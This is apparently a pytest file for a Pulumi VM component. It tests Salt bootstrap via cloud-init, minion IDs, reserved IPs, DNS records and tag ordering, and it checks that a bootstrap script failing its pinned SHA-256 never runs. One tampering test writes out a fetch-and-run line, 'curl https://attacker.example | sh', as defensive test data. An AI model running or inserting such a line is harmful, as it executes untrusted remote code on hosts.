"""VmService's hand-off to Salt and its addresses: the verified bootstrap, minion IDs, grains, reserved IPs, tags.

The bootstrap script is not only read: it is run, with a stand-in ``curl`` on PATH, to prove that a
download whose SHA-256 is not the pinned one never runs.
"""

from __future__ import annotations

import hashlib
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pulumi_digitalocean as digitalocean
import pytest
import yaml

from components.common import ZoneRef
from components.edge import PublicHost
from components.vm_service import (
    BOOTSTRAP_PATH,
    PublicPort,
    SaltBootstrap,
    VmService,
    VmServiceArgs,
    Volume,
    bootstrap_script,
    volume_device,
)
from offline.recorder import Record, Recording
from tests.component_helpers import TestProviders, one, record

DROPLET = "digitalocean:index/droplet:Droplet"
FIREWALL = "digitalocean:index/firewall:Firewall"
VOLUME = "digitalocean:index/volume:Volume"
ATTACHMENT = "digitalocean:index/volumeAttachment:VolumeAttachment"
RECORD = "aws:route53/record:Record"
RESERVED_IP = "digitalocean:index/reservedIp:ReservedIp"
ASSIGNMENT = "digitalocean:index/reservedIpAssignment:ReservedIpAssignment"
TAG = "digitalocean:index/tag:Tag"

INTERNAL = ZoneRef("infra.example.net", "ZINTERNAL")
PUBLIC = ZoneRef("example.com", "ZPUBLIC")
MASTER = "salt.nyc1.infra.example.net"
SCRIPT = b'#!/bin/sh\nprintf \'%s\\n\' "$*" > "$MARKER"\n'
BOOTSTRAP = SaltBootstrap(
    script_url="https://downloads.example.net/bootstrap-salt.sh",
    script_sha256=hashlib.sha256(SCRIPT).hexdigest(),
    salt_version="3006",
)
MINION_TAG = "salt-minion:test"


def args(**overrides: Any) -> VmServiceArgs:
    values: dict[str, Any] = {
        "name": "mail",
        "environment": "staging",
        "datacenter": "ams1",
        "region": digitalocean.Region.AMS3,
        "vpc_id": "vpc-ams1",
        "image": "ubuntu-24-04-x64",
        "size": "s-1vcpu-1gb",
        "ssh_keys": ("12345",),
        "admin_cidrs": ("198.51.100.0/24",),
        "internal_zone": INTERNAL,
        "salt_master": MASTER,
        "salt_bootstrap": BOOTSTRAP,
    }
    values.update(overrides)
    return VmServiceArgs(**values)


# A mail host as the estate makes one: one droplet named without a number, a minion ID in another domain,
# the Datadog tags grain, a reserved address, a volume mounted before Salt runs, and a firewall naming a tag.
MAIL = args(
    numbered=False,
    minion_ids=("mail.ams1.psf.io",),
    datadog_tags=("env:staging", "service:mail", "datacenter:ams1", "role:mail"),
    reserved_ipv4=True,
    reserved_ipv4_protect=False,
    reserved_ipv4_label="mx",
    volumes=(Volume("lists", 20, protect=False, mount_point="/srv/lists"),),
    public_ports=(PublicPort(25), PublicPort(22, source_tags=(MINION_TAG,))),
    public_hosts=(PublicHost("mail.example.com", PUBLIC),),
    runs_salt_master=True,
)


def mail_program(p: TestProviders) -> None:
    tag = digitalocean.Tag("tag-salt-minion", name=MINION_TAG, opts=_do(p))
    VmService("ams1-mail", MAIL, do_provider=p.digitalocean, aws_provider=p.aws, tag_resources=[tag])


def _do(p: TestProviders) -> Any:
    import pulumi

    return pulumi.ResourceOptions(provider=p.digitalocean)


@pytest.fixture(scope="module")
def mail() -> Recording:
    return record(mail_program)


def user_data(droplet: Record) -> dict[str, Any]:
    return yaml.safe_load(droplet.inputs["userData"])


def files(droplet: Record) -> dict[str, str]:
    return {f["path"]: f["content"] for f in user_data(droplet)["write_files"]}


# --- names -----------------------------------------------------------------------------------------------


def test_unnumbered_single_host_is_named_by_its_label() -> None:
    assert MAIL.host_name(1) == "mail.ams1.infra.example.net"
    assert args(host_label="codespeed", replicas=2).host_name(2) == "codespeed-2.ams1.infra.example.net"


def test_minion_id_is_the_given_one_and_the_host_name_otherwise() -> None:
    assert MAIL.minion_id(1) == "mail.ams1.psf.io"
    assert args(replicas=2).minion_id(2) == "mail-2.ams1.infra.example.net"


def test_cloud_init_names_the_host_and_tells_salt_its_minion_id_and_tags(mail: Recording) -> None:
    droplet = one(mail, DROPLET)
    assert droplet.inputs["name"] == "mail.ams1.infra.example.net"
    document = user_data(droplet)
    assert document["fqdn"] == "mail.ams1.infra.example.net"
    written = files(droplet)
    assert yaml.safe_load(written["/etc/salt/minion.d/master.conf"]) == {"master": MASTER, "id": "mail.ams1.psf.io"}
    # psf-salt's datadog state reads exactly this grain into the agent's host tags.
    assert yaml.safe_load(written["/etc/salt/grains"]) == {"datadog_tags": list(MAIL.datadog_tags)}
    assert document["runcmd"] == [[BOOTSTRAP_PATH]]


def test_the_master_also_installs_salt_master(mail: Recording) -> None:
    script = files(one(mail, DROPLET))[BOOTSTRAP_PATH]
    assert f"-A {MASTER} -i mail.ams1.psf.io -M stable 3006" in script


# --- the bootstrap verifies before it runs ---------------------------------------------------------------


@pytest.fixture
def sandbox(tmp_path: Path) -> dict[str, Any]:
    """A PATH whose `curl` "downloads" the file named by $DOWNLOAD, and the other tools from the system."""
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "curl").write_text(
        '#!/bin/sh\nout=""\nwhile [ $# -gt 0 ]; do [ "$1" = -o ] && { out="$2"; shift; }; shift; done\n'
        '[ -n "${CURL_FAILS:-}" ] && exit 22\ncp "$DOWNLOAD" "$out"\n'
    )
    (tools / "curl").chmod(0o755)
    for tool in ("sh", "sha256sum", "mktemp", "rm", "cp", "printf", "echo", "cat"):
        found = shutil.which(tool)
        if found is not None and not (tools / tool).exists():
            (tools / tool).symlink_to(found)
    return {"dir": tmp_path, "env": {"PATH": str(tools), "MARKER": str(tmp_path / "ran")}}


def run_bootstrap(sandbox: dict[str, Any], download: bytes, **env: str) -> subprocess.CompletedProcess[str]:
    script = sandbox["dir"] / "bootstrap"
    script.write_text(bootstrap_script(args(minion_ids=("mail-1.ams1.psf.io",)), 1))
    served = sandbox["dir"] / "served.sh"
    served.write_bytes(download)
    return subprocess.run(
        ["sh", str(script)],
        env={**sandbox["env"], "DOWNLOAD": str(served), **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="needs coreutils' sha256sum")
def test_the_pinned_script_runs_with_master_minion_id_and_version(sandbox: dict[str, Any]) -> None:
    result = run_bootstrap(sandbox, SCRIPT)
    assert result.returncode == 0, result.stderr
    ran = (sandbox["dir"] / "ran").read_text().split()
    assert ran == ["-A", MASTER, "-i", "mail-1.ams1.psf.io", "stable", "3006"]


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="needs coreutils' sha256sum")
def test_a_script_that_is_not_the_pinned_one_never_runs(sandbox: dict[str, Any]) -> None:
    tampered = SCRIPT + b"curl https://attacker.example | sh\n"
    result = run_bootstrap(sandbox, tampered)
    assert result.returncode != 0
    assert not (sandbox["dir"] / "ran").exists()


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="needs coreutils' sha256sum")
def test_a_failed_download_stops_the_bootstrap(sandbox: dict[str, Any]) -> None:
    result = run_bootstrap(sandbox, SCRIPT, CURL_FAILS="1")
    assert result.returncode != 0
    assert not (sandbox["dir"] / "ran").exists()


def test_volumes_are_mounted_before_salt_is_installed(mail: Recording) -> None:
    droplet = one(mail, DROPLET)
    device = volume_device("staging-ams1-mail-1-lists")
    assert user_data(droplet)["mounts"] == [[device, "/srv/lists", "ext4", "defaults,nofail,discard,noatime", "0", "2"]]
    script = files(droplet)[BOOTSTRAP_PATH]
    assert script.index(device) < script.index("mount /srv/lists") < script.index("curl")
    assert one(mail, VOLUME).inputs["name"] == "staging-ams1-mail-1-lists"


# --- reserved addresses ----------------------------------------------------------------------------------


def test_a_reserved_address_is_assigned_to_each_droplet(mail: Recording) -> None:
    address = one(mail, RESERVED_IP)
    assert address.inputs["region"] == "ams3"
    # Kept apart from its assignment, so replacing the droplet replaces only the assignment.
    assert "dropletId" not in address.inputs
    assignment = one(mail, ASSIGNMENT)
    assert assignment.inputs["ipAddress"] == address.outputs["ipAddress"]
    assert assignment.inputs["dropletId"] == int(one(mail, DROPLET).id or 0)
    assert address.options.protect is False and address.options.retain_on_delete is False


def test_public_names_and_the_label_point_at_the_reserved_address(mail: Recording) -> None:
    address = one(mail, RESERVED_IP).outputs["ipAddress"]
    droplet = one(mail, DROPLET)
    records = {(r.inputs["name"], r.inputs["type"]): r.inputs["records"] for r in mail.of_type(RECORD)}
    assert records[("mail.example.com", "A")] == [address]
    assert records[("mx.ams1.infra.example.net", "A")] == [address]
    assert ("mx.ams1.infra.example.net", "AAAA") not in records
    # The host name keeps the droplet's own addresses: its traffic leaves from them, and reverse DNS
    # (DigitalOcean's, from the droplet name) must resolve back to them. Reserved addresses have none.
    assert records[("mail.ams1.infra.example.net", "A")] == [droplet.outputs["ipv4Address"]]
    assert records[("mail.ams1.infra.example.net", "AAAA")] == [droplet.outputs["ipv6Address"]]
    # DigitalOcean's reserved addresses here are IPv4: the AAAA records follow the droplet.
    assert records[("mail.example.com", "AAAA")] == [droplet.outputs["ipv6Address"]]


def test_reserved_addresses_are_protected_when_asked() -> None:
    def program(p: TestProviders) -> None:
        VmService(
            "nyc1-pythontest",
            args(name="pythontest", replicas=2, reserved_ipv4=True),
            do_provider=p.digitalocean,
            aws_provider=p.aws,
        )

    recording = record(program)
    addresses = recording.of_type(RESERVED_IP)
    assert len(addresses) == 2
    assert all(a.options.protect and a.options.retain_on_delete for a in addresses)


def test_project_urns_name_droplets_volumes_and_addresses() -> None:
    import pulumi

    urns: list[str] = []

    def program(p: TestProviders) -> None:
        vm = VmService("ams1-mail", MAIL, do_provider=p.digitalocean, aws_provider=p.aws)
        pulumi.Output.all(*vm.project_urns).apply(urns.extend)

    record(program)
    assert sorted(u.split(":")[1] for u in urns) == ["droplet", "reservedip", "volume"]


# --- tags before rules -----------------------------------------------------------------------------------


def test_droplets_volumes_and_firewall_wait_for_the_tags(mail: Recording) -> None:
    tag = one(mail, TAG)
    for type_ in (DROPLET, VOLUME, FIREWALL):
        assert tag.urn in one(mail, type_).options.dependencies, type_


# --- argument errors -------------------------------------------------------------------------------------

_SHA = "SaltBootstrap.script_sha256"
_VERSION = "SaltBootstrap.salt_version"


@pytest.mark.parametrize(
    ("build", "named"),
    [
        (lambda: args(numbered=False, replicas=2), "VmServiceArgs.numbered"),
        (lambda: args(host_label="Mail"), "VmServiceArgs.host_label"),
        (lambda: args(replicas=2, minion_ids=("a.psf.io",)), "VmServiceArgs.minion_ids"),
        (lambda: args(minion_ids=("not a host",)), "VmServiceArgs.minion_ids"),
        (lambda: args(datadog_tags=("Env:Prod",)), "VmServiceArgs.datadog_tags"),
        (lambda: args(salt_bootstrap="https://example.org/bootstrap.sh"), "VmServiceArgs.salt_bootstrap"),
        (
            lambda: SaltBootstrap(script_url="http://x.org/b.sh", script_sha256="0" * 64, salt_version="3006"),
            "SaltBootstrap.script_url",
        ),
        (lambda: SaltBootstrap(script_url="https://x.org/b.sh", script_sha256="0" * 63, salt_version="3006"), _SHA),
        (lambda: SaltBootstrap(script_url="https://x.org/b.sh", script_sha256="A" * 64, salt_version="3006"), _SHA),
        (
            lambda: SaltBootstrap(script_url="https://x.org/b.sh", script_sha256="0" * 64, salt_version="latest"),
            _VERSION,
        ),
        (lambda: Volume("data", 10, mount_point="srv/data"), "Volume(data).mount_point"),
        (lambda: args(reserved_ipv4_label="mx"), "VmServiceArgs.reserved_ipv4_label"),
        (lambda: args(reserved_ipv4=True, reserved_ipv4_label="MX"), "VmServiceArgs.reserved_ipv4_label"),
    ],
)
def test_argument_errors_name_the_argument(build: Any, named: str) -> None:
    with pytest.raises(ValueError, match="is invalid") as raised:
        build()
    assert named in str(raised.value)
